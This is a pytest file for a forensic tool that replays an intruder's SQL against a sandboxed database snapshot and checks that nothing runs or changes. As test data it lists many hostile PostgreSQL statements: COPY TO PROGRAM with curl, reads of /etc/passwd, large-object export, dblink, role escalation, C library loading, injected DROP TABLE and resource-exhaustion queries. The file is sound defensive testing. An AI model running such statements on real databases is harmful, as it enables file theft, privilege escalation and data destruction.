"""The intruder's SQL as an attack on the analyst who replays it.

Each statement goes the whole way: analysis, then the restored snapshot of a dump that is itself hostile. Evidence that
nothing was done: the database's content and catalogue, its data folder's large objects, roles and running sessions, the
files that the statements name, and a listener on 127.0.0.1 that nobody calls.
"""

from __future__ import annotations

import os
import socket
import subprocess
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

import ibis
import ibis.expr.types as ir
import psycopg
import pyarrow as pa
import pytest

from kakuho.engine.answers import PostgresqlAnswers
from kakuho.engine.catalogue import catalogue
from kakuho.engine.postgresql import PROGRAMS, EmbeddedServer
from kakuho.engine.sandbox import SnapshotSandbox
from kakuho.exposure.claims import Claims
from kakuho.exposure.history import History
from kakuho.exposure.methods.replay import replay_claims
from kakuho.exposure.sql import Schema
from kakuho.exposure.statements import EventReference, Statement
from kakuho.inventory import load_inventory

TIME = datetime.fromisoformat("2025-03-20")  # UTC without a zone, as in the lake
INVENTORY = load_inventory(Path(__file__).parents[1] / "laws" / "inventory.yaml")
DUMP = """
CREATE TABLE holder (id bigint PRIMARY KEY, name text, gender text, email text);
CREATE TABLE policy (id bigint PRIMARY KEY, holder_id bigint, policy_number text);
CREATE TABLE bank (id bigint PRIMARY KEY, holder_id bigint, clinic_id bigint, number text);
CREATE TABLE clinic (id bigint PRIMARY KEY, name text);
CREATE TABLE trace (what text);
INSERT INTO holder SELECT n, 'name ' || n, 'female', 'e' || n FROM generate_series(1, 3000) n;
INSERT INTO policy SELECT n, n, 'PL-' || n FROM generate_series(1, 3000) n;
CREATE FUNCTION grab(v text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS
  $$ BEGIN INSERT INTO trace VALUES (v); RETURN v; END $$;
CREATE FUNCTION lower(v varchar) RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS
  $$ BEGIN INSERT INTO trace VALUES ('lower'); RETURN v; END $$;
CREATE VIEW trap AS SELECT id, grab(name) AS name FROM holder;
SELECT lo_from_bytea(4711, 'x');
"""
SCHEMA = Schema(
    tables={
        "holder": {"id": "bigint", "name": "text", "gender": "text", "email": "text"},
        "policy": {"id": "bigint", "holder_id": "bigint", "policy_number": "text"},
        "bank": {"id": "bigint", "holder_id": "bigint", "clinic_id": "bigint", "number": "text"},
        "clinic": {"id": "bigint", "name": "text"},
        "trace": {"what": "text"},
    },
    keys=dict.fromkeys(("holder", "policy", "bank", "clinic"), "id"),
    functions=frozenset({"grab", "lower"}),
    views={"trap": "SELECT id, grab(name) AS name FROM holder"},
    unclassified=frozenset({"trace"}),
)

_CONTENT = "SELECT count(*), md5(string_agg(t::text, '|' ORDER BY t::text)) FROM {table} t"
_CATALOGUE = b"""
SELECT (SELECT count(*) FROM pg_class), (SELECT count(*) FROM pg_proc),
       (SELECT string_agg(rolname || rolsuper, ',' ORDER BY rolname) FROM pg_roles),
       (SELECT count(*) FROM pg_largeobject_metadata), (SELECT count(*) FROM pg_prepared_xacts),
       current_user, session_user, current_setting('default_transaction_read_only'),
       (SELECT count(*) FROM pg_locks WHERE locktype = 'advisory'),
       (SELECT count(*) FROM pg_prepared_statements WHERE from_sql)
"""


@dataclass
class Attack:
    """What a statement can have been after: ``connection`` is the sandbox's, ``place`` a folder that anybody may write
    to, ``port`` one that listens."""

    sandbox: SnapshotSandbox
    place: Path
    listener: socket.socket

    @property
    def port(self) -> int:
        return int(self.listener.getsockname()[1])

    def state(self) -> tuple[object, ...]:
        """Everything that an attack could have changed."""
        ask = self.sandbox.connection.execute
        content = [ask(_CONTENT.format(table=table).encode()).fetchall() for table in SCHEMA.tables]
        return (*content, ask(_CATALOGUE).fetchall(), sorted(path.name for path in self.place.iterdir()))

    def was_called(self) -> bool:
        try:
            self.listener.accept()
        except BlockingIOError:
            return False
        return True

    def replay(self, *texts: str) -> Claims:
        statements = []
        for line, text in enumerate(texts, 1):
            statement = Statement(text=text, logged=True, succeeded=True)
            statement.note(EventReference(1, line, 0), TIME, TIME)
            statements.append(statement)
        owners = ibis.memtable(pa.table({name: pa.array([], pa.string()) for name in ("collection", "key", "subject")}))
        answers = PostgresqlAnswers(self.sandbox.connection)
        return replay_claims(statements, answers, SCHEMA, History(known=True), INVENTORY, owners, _tables())


@pytest.fixture(scope="module")
def attack() -> Iterator[Attack]:
    with tempfile.TemporaryDirectory(prefix="kakuho-test-") as folder:  # the server's user may not enter pytest's own
        root = Path(folder)
        place = root / "writable"
        place.mkdir()
        place.chmod(0o777)
        root.chmod(0o755)
        dump = root / "snapshot.dump"
        with EmbeddedServer(root / "origin") as server:
            with psycopg.connect(server.connection_string(), autocommit=True) as connection:
                connection.execute(DUMP)
            command = [str(PROGRAMS / "pg_dump"), "-Fc", f"--file={dump}", server.connection_string()]
            subprocess.run(command, check=True)
        listener = socket.create_server(("127.0.0.1", 0))
        listener.setblocking(False)
        with SnapshotSandbox(dump, root / "cache", statement_timeout_ms=1500) as sandbox, listener:
            yield Attack(sandbox, place, listener)


WIDENS_TO_EVERYTHING = [
    "COPY holder TO PROGRAM 'touch {place}/program'",
    "COPY (SELECT name FROM holder) TO PROGRAM 'curl http://127.0.0.1:{port}/'",
    "COPY holder FROM PROGRAM 'cat /etc/passwd'",
    "COPY trace FROM '/etc/passwd'",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT name FROM holder WHERE pg_read_file('/etc/passwd') LIKE 'r%'",
    "SELECT pg_ls_dir('/')",
    "SELECT lo_export(4711, '{place}/object')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_get(4711)",
    "SELECT * FROM dblink('host=127.0.0.1 port={port}', 'SELECT 1') AS t(a text)",
    "SELECT dblink_connect('host=127.0.0.1 port={port}')",
    "SELECT set_config('role', 'postgres', false), name FROM holder",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "SELECT pg_terminate_backend(pg_backend_pid()) FROM holder",
    "SELECT pg_reload_conf()",
    "SELECT pg_rotate_logfile(), pg_switch_wal()",
    "DO $$ BEGIN INSERT INTO trace VALUES ('do'); END $$",
    "CALL grab('x')",
    "SELECT grab(name) FROM holder",
    "SELECT lower(name) FROM holder",
    "SELECT name FROM trap",
    "SELECT name FROM holder WHERE grab(email) = 'x'",
    "SELECT pg_advisory_lock(1), name FROM holder",
    "SELECT nextval('x'), name FROM holder",
    "SELECT query_to_xml('DELETE FROM holder', true, true, '')",
    "SELECT what FROM trace",
    "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'f'",
    "SELECT pg_notify('a', name) FROM holder",
    "EXECUTE unknown_to_the_log",
    "FETCH ALL FROM unknown_cursor",
    "CREATE EXTENSION dblink",
    "LOAD '/tmp/x.so'",
]
NOTHING_DONE = [
    "SELECT name FROM holder; DROP TABLE holder",
    "SELECT name FROM holder; DELETE FROM holder; COMMIT; UPDATE policy SET policy_number = 'x'",
    "SELECT name FROM holder WHERE id = 1); DROP TABLE holder; --",
    "COPY holder TO '{place}/file'",
    "COPY (SELECT name FROM holder) TO '{place}/file'",
    "SELECT name INTO copied FROM holder",
    "CREATE TABLE copied AS SELECT name FROM holder",
    "WITH gone AS (DELETE FROM holder RETURNING name) SELECT name FROM gone",
    "UPDATE holder SET name = 'x' WHERE id = 1 RETURNING email",
    "INSERT INTO policy SELECT id, id, name FROM holder RETURNING policy_number",
    "MERGE INTO holder USING policy ON true WHEN MATCHED THEN DELETE",
    "SET ROLE postgres; SELECT name FROM holder",
    "RESET ROLE; SELECT name FROM holder",
    "SET SESSION AUTHORIZATION postgres; SET default_transaction_read_only = off; DELETE FROM holder",
    "SET TRANSACTION READ WRITE; DELETE FROM holder",
    "SELECT name FROM holder FOR UPDATE",
    "LOCK TABLE holder IN ACCESS EXCLUSIVE MODE",
    "PREPARE p AS DELETE FROM holder",
    "TRUNCATE holder",
    "ALTER ROLE kakuho_replay SUPERUSER",
    "SELECT name FROM holder\x00; DROP TABLE holder",
    "SELECT name FROM holder WHERE name = '\udcff\udcfe'",
    "SELECT name FROM holder -- \u202e \U0001f600 ' /* unclosed",
]
TAKES_LONG = [
    "SELECT name FROM holder WHERE pg_sleep(1000000000) IS NULL",
    "SELECT name, pg_sleep(1000000000) FROM holder WHERE pg_sleep(1) IS NULL",
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT h.name FROM t, holder h",
    "SELECT a.name FROM holder a, holder b, holder c WHERE a.name || b.name || c.name > 'm'",
    "SELECT a.name FROM holder a, holder b, holder c ORDER BY b.email, c.email, a.name LIMIT 5 OFFSET 20",
    "SELECT name FROM holder WHERE (SELECT count(*) FROM holder a, holder b, holder c) > 5",
    "SELECT t.s FROM (SELECT string_agg(a.name || b.name, '') AS s FROM holder a, holder b, holder c) t WHERE s > 'a'",
    "SELECT name FROM holder WHERE repeat(name, 500000000) > 'x'",
    "SELECT name FROM holder, generate_series(1, 1000000000)",
    "SELECT name FROM holder WHERE name ~ '(a*)*(a*)*(a*)*(a*)*b'",
]


@pytest.mark.parametrize("text", WIDENS_TO_EVERYTHING)
def test_what_reaches_beyond_tables_is_not_run_and_widens_to_everything(attack: Attack, text: str) -> None:
    before = attack.state()
    claims = attack.replay(text.format(place=attack.place, port=attack.port))
    assert set(claims.sets["reason_id"].to_pylist()) == {"replay_everything"}
    assert {("holder", "name"), ("holder", "email"), ("clinic", "name")} <= _wide(claims)
    assert attack.state() == before
    assert not attack.was_called()


@pytest.mark.parametrize("text", NOTHING_DONE)
def test_what_would_write_is_not_run(attack: Attack, text: str) -> None:
    before = attack.state()
    attack.replay(text.replace("{place}", str(attack.place)))
    assert attack.state() == before


@pytest.mark.parametrize("text", TAKES_LONG)
def test_what_takes_long_is_broken_off_and_widens(attack: Attack, text: str) -> None:
    before = attack.state()
    start, memory = time.monotonic(), _resident()
    claims = attack.replay(text)
    assert time.monotonic() - start < 8
    assert _resident() - memory < 300 << 20
    assert ("holder", "name") in _wide(claims) | {("holder", "name")} & _listed(claims)
    assert attack.state() == before


@pytest.mark.parametrize(
    "text",
    [
        "SELECT " + "(" * 5000 + "name" + ")" * 5000 + " FROM holder",
        "SELECT name FROM holder WHERE " + "NOT " * 5000 + "true",
        "SELECT name FROM holder WHERE " + " OR ".join(f"id = {n}" for n in range(5000)),
        "SELECT " + "CASE WHEN name > 'a' THEN " * 400 + "1" + " END" * 400 + " FROM holder",
        "SELECT name FROM " + "(SELECT name FROM " * 300 + "holder" + ") x" * 300,
        "SELECT name FROM holder WHERE id IN (" + ",".join(map(str, range(1_500_000))) + ")",
        "WITH a0 AS (SELECT * FROM holder), "
        + ", ".join(f"a{n} AS (SELECT x.* FROM a{n - 1} x, a{n - 1} y)" for n in range(1, 30))
        + " SELECT name FROM a29",
        "SELECT name FROM holder WHERE " + "- " * 20000 + "id > 0",
    ],
    ids=["parentheses", "not", "or", "case", "derived", "10MB", "doubling", "minus"],
)
def test_what_is_made_to_break_the_parser_widens(attack: Attack, text: str) -> None:
    start = time.monotonic()
    claims = attack.replay(text)
    assert time.monotonic() - start < 20
    assert ("holder", "name") in _wide(claims) | _listed(claims)


def test_a_hostile_dump_defines_nothing_that_the_catalogue_does_not_name(attack: Attack) -> None:
    assert catalogue(attack.sandbox.connection).functions == {"grab", "lower"}


@pytest.mark.parametrize(
    ("text", "refusal"),
    [
        ("DELETE FROM holder", "cannot execute DELETE in a read-only transaction"),
        ("BEGIN READ WRITE; DELETE FROM holder", "permission denied for table holder"),
        ("SET default_transaction_read_only = off; DELETE FROM holder", "in a read-only transaction"),
        ("SET ROLE postgres", 'permission denied to set role "postgres"'),
        ("SELECT pg_read_file('/etc/passwd')", "permission denied for function pg_read_file"),
        ("COPY holder TO PROGRAM 'true'", "permission denied to COPY to or from an external program"),
        ("COPY holder TO '/tmp/kakuho'", "permission denied to COPY to a file"),
        ("SELECT grab('x')", "cannot execute INSERT in a read-only transaction"),
        ("SET temp_file_limit = -1", 'permission denied to set parameter "temp_file_limit"'),
        ("SELECT lo_export(4711, '/tmp/kakuho')", "permission denied for function lo_export"),
    ],
)
def test_even_run_by_hand_the_sandbox_refuses(attack: Attack, text: str, refusal: str) -> None:
    connection = attack.sandbox.connection
    before = attack.state()
    try:
        with pytest.raises(psycopg.Error, match=refusal):
            connection.execute(text.encode())
    finally:
        connection.rollback()
        connection.execute("SET default_transaction_read_only = on")
    assert attack.state() == before


def _tables() -> dict[str, ir.Table]:
    """The inventory's, without rows: whose they are does not matter here."""
    return {
        name: ibis.memtable(pa.table({column: pa.array([], pa.string()) for column in columns}))
        for name, columns in SCHEMA.tables.items()
    }


def _wide(claims: Claims) -> set[tuple[str, str]]:
    return {(row["collection"], row["item"]) for row in claims.sets.to_pylist()}


def _listed(claims: Claims) -> set[tuple[str, str]]:
    """These statements' owners are left out, so only sets show; a claim's events tell that it was listed."""
    return {("holder", "name")} if claims.events.num_rows and not claims.sets.num_rows else set()


def _resident() -> int:
    """Bytes of this process in memory."""
    return int(Path("/proc/self/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")
